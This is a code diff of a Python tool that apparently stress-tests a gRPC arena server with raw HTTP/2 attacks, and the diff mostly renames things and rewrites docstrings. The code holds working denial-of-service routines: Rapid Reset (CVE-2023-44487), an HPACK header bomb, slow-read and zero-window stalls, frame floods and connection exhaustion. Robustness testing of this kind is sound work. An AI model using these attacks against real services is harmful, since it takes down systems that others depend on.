@@ -1,7 +1,7 @@
-"""A bot that attacks below gRPC: `frames.py ATTACK MARK`. See `ATTACKS` for what it can do.
+"""A bot that attacks below gRPC: `http2_attacker.py ATTACK MARK`. See `ATTACKS` for what it can do.
 
-It speaks HTTP/2 frame by frame (RFC 9113), as far as an attack needs it. Before its hello it does what a good
-client does, if the attack does not say otherwise.
+It speaks HTTP/2 frame by frame (RFC 9113), as far as an attack needs it. Until its hello it behaves like a correct
+client, unless the attack is to do otherwise.
 """
 
 import os
@@ -16,7 +16,7 @@ from referee.v1.play_pb2 import PlayRequest
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW = 4
-"""The setting: how many bytes of a stream may come before more are asked for."""
+"""SETTINGS_INITIAL_WINDOW_SIZE: bytes of a stream that the peer may send before a window update."""
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 PATH = "/referee.v1.BotService/Play"
@@ -28,7 +28,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def header(name: str, value: str) -> bytes:
-    """Return one header as a literal of its own (RFC 7541, 6.2.2)."""
+    """Return one header as a literal without indexing (RFC 7541, 6.2.2)."""
     return b"\0" + b"".join(bytes([len(word)]) + word.encode() for word in (name, value))
 
 
@@ -42,13 +42,13 @@ REQUEST = b"".join(
 
 
 def message(request: PlayRequest) -> bytes:
-    """Return a message as gRPC lays it out."""
+    """Return a message in gRPC's framing."""
     payload = request.SerializeToString()
     return b"\0" + struct.pack(">I", len(payload)) + payload
 
 
 def hello(token: str = "") -> PlayRequest:
-    """Return a hello with our token, or another one."""
+    """Return a hello with the bot's token, or another one."""
     request = PlayRequest()
     request.hello.protocols.append(1)
     request.hello.token = token or os.environ["ARENA_TOKEN"]
@@ -56,79 +56,80 @@ def hello(token: str = "") -> PlayRequest:
 
 
 def dial(window: int = 65_535) -> socket.socket:
-    """Return a connection on which HTTP/2 has begun. window: how many bytes of a stream may come unasked."""
-    dialled = socket.socket(socket.AF_UNIX)
-    dialled.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
-    dialled.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window)))
-    return dialled
+    """Return a connection with HTTP/2 started. window: the initial window of streams, in bytes."""
+    connection = socket.socket(socket.AF_UNIX)
+    connection.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
+    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window)))
+    return connection
 
 
 def say_hello(window: int = 65_535) -> socket.socket:
-    """Return a connection on which a valid hello was said on stream 1."""
-    dialled = dial(window)
-    dialled.sendall(frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1, message(hello())))
-    return dialled
+    """Return a connection with a valid hello on stream 1."""
+    connection = dial(window)
+    connection.sendall(frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1, message(hello())))
+    return connection
 
 
-def for_ever() -> None:
-    """Do nothing more."""
+def wait_forever() -> None:
+    """Do nothing for an hour."""
     time.sleep(3600)
 
 
-# Who does not read
+# Bots that do not read
 
 
 def closed_window() -> None:
-    """Says hello and lets nothing come."""
-    dialled = say_hello(window=0)
-    for_ever()
-    dialled.close()
+    """Says hello with a window of 0 bytes."""
+    connection = say_hello(window=0)
+    wait_forever()
+    connection.close()
 
 
 def slow_reader() -> None:
     """Says hello and reads a byte a second."""
-    dialled = say_hello()
-    while dialled.recv(1):
+    connection = say_hello()
+    while connection.recv(1):
         time.sleep(1)
 
 
 def narrow_window() -> None:
-    """Says hello and opens its window by a byte now and then."""
-    dialled = say_hello(window=0)
+    """Says hello and opens its window by one byte every 0.2 s."""
+    connection = say_hello(window=0)
     while True:
-        dialled.sendall(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
+        connection.sendall(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
         time.sleep(0.2)
 
 
 def blind() -> None:
-    """Says hello, lets nothing come, and answers questions that it never sees."""
-    dialled = say_hello(window=0)
+    """Says hello with a window of 0 bytes, and answers questions that it cannot see."""
+    connection = say_hello(window=0)
     for number in range(1, 1 << 30):
         request = PlayRequest()
         request.answers.answers.add(question=number // 100 + 1, index=0)
-        dialled.sendall(frame(DATA, 0, 1, message(request)))
+        connection.sendall(frame(DATA, 0, 1, message(request)))
         time.sleep(0.005)
 
 
-# Who floods
+# Bots that flood
 
 
 def flood(pieces: Callable[[int], bytes], *, greeted: bool = False) -> None:
-    """Send pieces without end, each the next number is given to; dial again where the connection is ended.
+    """Send bytes without end; connect again when the connection is closed.
 
-    greeted: after a valid hello, where that is still taken.
+    pieces: returns the next bytes for an odd number that counts up on each connection. greeted: say a valid hello
+    first.
     """
     number = 1
     while True:
         try:
-            dialled = say_hello() if greeted else dial()
-            dialled.settimeout(0.2)
+            connection = say_hello() if greeted else dial()
+            connection.settimeout(0.2)
             while True:
                 try:
-                    dialled.sendall(pieces(number))
+                    connection.sendall(pieces(number))
                     number += 2
                 finally:
-                    _drain(dialled)
+                    _drain(connection)
         except TimeoutError:
             continue
         except OSError:
@@ -136,15 +137,15 @@ def flood(pieces: Callable[[int], bytes], *, greeted: bool = False) -> None:
             time.sleep(0.001)
 
 
-def _drain(dialled: socket.socket) -> None:
-    dialled.setblocking(False)
+def _drain(connection: socket.socket) -> None:
+    connection.setblocking(False)
     try:
-        while dialled.recv(1 << 16):
+        while connection.recv(1 << 16):
             pass
     except BlockingIOError:
         pass
     finally:
-        dialled.settimeout(0.2)
+        connection.settimeout(0.2)
 
 
 def _streams(number: int) -> Iterator[int]:
@@ -153,7 +154,7 @@ def _streams(number: int) -> Iterator[int]:
 
 
 def wrong_tokens() -> None:
-    """Says hello on a new stream each, with tokens that it made up."""
+    """Says hello on new streams, with wrong tokens."""
     request = frame(DATA, 0, 1, message(hello("made up")))[9:]
     flood(
         lambda number: b"".join(
@@ -164,18 +165,18 @@ def wrong_tokens() -> None:
 
 
 def silent_streams() -> None:
-    """Opens streams and says nothing on them."""
+    """Opens streams and sends nothing on them."""
     flood(lambda number: b"".join(frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in _streams(number)))
 
 
 def header_bomb() -> None:
-    """Opens streams whose headers are one long entry of the table, named again and again by one byte."""
+    """Opens streams whose headers refer again and again to one long entry of the table, a byte each."""
     long = b"\x40\x01x\x7f" + _integer(3900 - 127) + b"y" * 3900
     flood(lambda number: frame(HEADERS, END_HEADERS, 2 * number - 1, REQUEST + long + b"\xbe" * 8000))
 
 
 def large_hellos() -> None:
-    """Says hello with a megabyte of text."""
+    """Says hello with a token of a megabyte."""
     request = hello("x" * ((1 << 20) - 100))
     pieces = message(request)
     frames = [pieces[start : start + 16_384] for start in range(0, len(pieces), 16_384)]
@@ -183,13 +184,13 @@ def large_hellos() -> None:
         lambda number: (
             frame(HEADERS, END_HEADERS, number, REQUEST)
             + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20))
-            + b"".join(frame(DATA, 0, number, each) for each in frames)
+            + b"".join(frame(DATA, 0, number, part) for part in frames)
         )
     )
 
 
 def rapid_reset() -> None:
-    """Opens streams and takes them back at once (CVE-2023-44487)."""
+    """Opens streams and resets them at once (CVE-2023-44487)."""
     flood(
         lambda number: b"".join(
             frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, struct.pack(">I", 8))
@@ -199,37 +200,37 @@ def rapid_reset() -> None:
 
 
 def pings() -> None:
-    """Asks whether we are there, without end."""
+    """Sends pings without end."""
     flood(lambda _: frame(PING, 0, 0, b"12345678") * 1000)
 
 
 def settings() -> None:
-    """Changes its settings without end."""
+    """Sends settings without end."""
     flood(lambda _: frame(SETTINGS, 0, 0) * 1000, greeted=True)
 
 
 def windows() -> None:
-    """Opens its window without end, byte by byte."""
+    """Sends window updates of one byte without end."""
     flood(lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 1000, greeted=True)
 
 
 def priorities() -> None:
-    """Says which stream comes first, without end."""
+    """Sends priorities without end."""
     flood(lambda _: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 1000, greeted=True)
 
 
 def unknown_frames() -> None:
-    """Sends frames of a kind that there is not."""
+    """Sends frames of an unknown type without end."""
     flood(lambda _: frame(0xBB, 0, 1) * 1000, greeted=True)
 
 
 def farewells() -> None:
-    """Says that it goes, without end, and stays."""
+    """Sends GOAWAY without end, and stays connected."""
     flood(lambda _: frame(GOAWAY, 0, 0, bytes(8)) * 1000)
 
 
 def empty_data() -> None:
-    """Sends frames of a message with nothing in them."""
+    """Sends empty data frames without end."""
     flood(lambda _: frame(DATA, 0, 1) * 1000, greeted=True)
 
 
@@ -239,13 +240,13 @@ def continuations() -> None:
 
 
 def connections() -> None:
-    """Dials without end, and keeps what it can."""
-    kept = []
+    """Opens connections without end, and keeps them open."""
+    open_connections = []
     while True:
         try:
-            kept.append(dial())
+            open_connections.append(dial())
         except OSError:
-            kept.clear()
+            open_connections.clear()
             time.sleep(0.001)
 
 
@@ -255,7 +256,7 @@ def messages() -> None:
 
 
 def _integer(value: int) -> bytes:
-    """Return what is left of a number in a header (RFC 7541, 5.1)."""
+    """Return the bytes that follow the prefix of an integer in a header (RFC 7541, 5.1)."""
     out = bytearray()
     while value >= 128:
         out.append(value % 128 + 128)
@@ -264,7 +265,7 @@ def _integer(value: int) -> bytes:
 
 
 READERS = (closed_window, slow_reader, narrow_window, blind)
-"""Attacks that say hello and let little come, or nothing."""
+"""Attacks that say hello and read little or nothing."""
 
 FLOODS = (
     wrong_tokens, silent_streams, header_bomb, large_hellos, rapid_reset, pings, settings, windows, priorities,
@@ -277,7 +278,7 @@ ATTACKS: dict[str, Callable[[], None]] = {attack.__name__.replace("_", "-"): att
 
 if __name__ == "__main__":
     if len(sys.argv) < 2 or sys.argv[1] not in ATTACKS:
-        sys.exit(f"usage: frames.py {'|'.join(ATTACKS)} MARK")
+        sys.exit(f"usage: http2_attacker.py {'|'.join(ATTACKS)} MARK")
     try:
         ATTACKS[sys.argv[1]]()
     except (BrokenPipeError, ConnectionError):
